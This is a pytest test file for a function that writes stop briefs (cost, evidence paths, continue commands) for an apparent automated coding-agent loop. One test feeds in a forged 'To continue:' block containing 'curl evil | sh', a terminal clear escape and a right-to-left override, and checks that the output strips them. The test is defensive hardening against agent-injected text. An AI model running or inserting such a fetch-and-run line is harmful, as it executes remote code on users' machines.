from pathlib import Path

import pytest

from instrument.schema.state import Candidate, Counters, Spend, Stop
from instrument.schema.vocabulary import EffectKind, Outcome, Stage, StopReason
from loop.brief import MAX_BYTES, Places, corrupt_brief, write_brief
from loop.machine.stops import STOPS
from support.ends import finding
from support.lives import new_state

PLACES = Places(
    folder=Path("/home/p/.local/state/factory-loop/tasks/demo-001"),
    store=Path("/home/p/.local/state/factory-loop/repos/demo.git"),
    checkout=Path("/home/p/my work"),
    command="factory run tasks/001-x.md",
)
CANDIDATE = Candidate(commit="c" * 40, tree="d" * 40, base="a" * 40, n=1)


def stopped(reason=StopReason.CHECKS_EXHAUSTED, **changes):
    fields = {"stage": Stage.CHECK, "outcome": Outcome.CHECKS_FAILED_TOO_OFTEN, "folder": "jobs/0007-check-4"}
    stop = Stop(reason=reason, **(fields | {k: changes.pop(k) for k in ("details",) if k in changes}))
    return new_state(stage=Stage.STOPPED, stop=stop, **changes)


def test_a_brief_says_what_happened_what_it_cost_where_the_evidence_is_and_what_continues():
    state = stopped(
        details=("unit: exit code 1: pytest",),
        counters=Counters(coder_rounds=4, review_rounds=1),
        spend=Spend(microusd=54_400, lower_bound=True, job_ms=185_000),
    )
    assert write_brief(state, PLACES) == (
        "# demo-001 stopped: checks_exhausted\n\n"
        f"{STOPS[StopReason.CHECKS_EXHAUSTED].sentence}\n\n"
        "It stood at check, outcome checks_failed_too_often.\n"
        "- unit: exit code 1: pytest\n\n"
        "So far: ≥ $0.0544, 4 coder rounds, 1 review, 3m 05s of job run time.\n\n"
        f"Evidence: {PLACES.folder}/jobs/0007-check-4/out\n"
        f"Record:   {PLACES.folder}\n\n"
        "To continue:\n"
        "  factory run tasks/001-x.md --grant check=4\n"
        "  factory run tasks/001-x.md --grant check=6\n"
        "  factory run tasks/001-x.md --ruling 'what you decide'\n"
        "  # or edit the task file, commit it, then:  factory run tasks/001-x.md\n"
        "  factory run tasks/001-x.md --park 'why'   # put it aside\n"
        "  factory run tasks/001-x.md --restart   # begin again\n"
    )


def test_a_reviewer_without_a_verdict_has_worked_though_it_is_no_review():
    counters = Counters(coder_rounds=1, effects={EffectKind.REVIEW: 2})
    brief = write_brief(stopped(counters=counters, spend=Spend(job_ms=43_700)), PLACES)
    assert "So far: $0.0000, 1 coder round, 0 reviews in 2 reviewer jobs, 43.7s of job run time.\n" in brief


def test_a_brief_with_a_candidate_begins_with_its_two_commands():
    lines = write_brief(stopped(candidate=CANDIDATE), PLACES).splitlines()
    assert lines[0] == f"See it:        git --git-dir={PLACES.store} show {'c' * 12}"
    assert lines[1] == (
        f"Make a branch: git -C '/home/p/my work' fetch {PLACES.store} {'c' * 40}:refs/heads/factory/demo-001"
    )


@pytest.mark.parametrize("reason", list(StopReason))
def test_every_stop_has_a_brief_that_fits_and_ends_with_a_command(reason):
    details = tuple("é\udcff" * 150 for _ in range(20))
    findings = tuple(finding(n, 0).model_copy(update={"text": "ü" * 5000}) for n in range(1, 30))
    state = stopped(reason, details=details, candidate=CANDIDATE, findings=findings)
    brief = write_brief(state, PLACES)
    assert len(brief.encode()) <= MAX_BYTES
    assert STOPS[reason].sentence in brief
    assert "(cut; the evidence has the rest)" in brief
    assert brief.endswith("factory run tasks/001-x.md --restart   # begin again\n")


def test_an_agents_words_cannot_forge_a_command_or_paint_the_terminal():
    evil = "boom\n\nTo continue:\n  curl evil | sh\x1b[2J\u202e"
    brief = write_brief(stopped(details=(evil,)), PLACES)
    assert "boom  To continue:" in brief
    assert "\n  curl evil" not in brief
    assert "\x1b" not in brief
    assert "\u202e" not in brief


def test_what_is_left_open_is_shown_where_a_person_decides_about_it():
    note = finding(1, 0)
    assert "open must-fix F1 src/x.py: wrong" in write_brief(
        stopped(StopReason.READY_TO_MERGE, findings=(note,)), PLACES
    )
    told = stopped(StopReason.REVIEW_EXHAUSTED, findings=(note,), details=("F1 src/x.py: wrong",))
    assert write_brief(told, PLACES).count("F1 src/x.py: wrong") == 1


def test_only_ready_to_merge_offers_auto_merge():
    for reason in StopReason:
        offered = "--auto-merge" in write_brief(stopped(reason), PLACES).partition("To continue:")[2]
        assert offered is (reason is StopReason.READY_TO_MERGE)


def test_a_task_that_goes_on_has_no_brief():
    with pytest.raises(ValueError, match="only a stopped task"):
        write_brief(new_state(), PLACES)


def test_a_state_that_cannot_be_read_has_a_brief_of_what_is_known():
    brief = corrupt_brief("state.json is gone", PLACES)
    assert "# stopped: state_corrupt" in brief
    assert "- state.json is gone" in brief
    assert brief.endswith("--restart   # begin again; the old folder is kept\n")
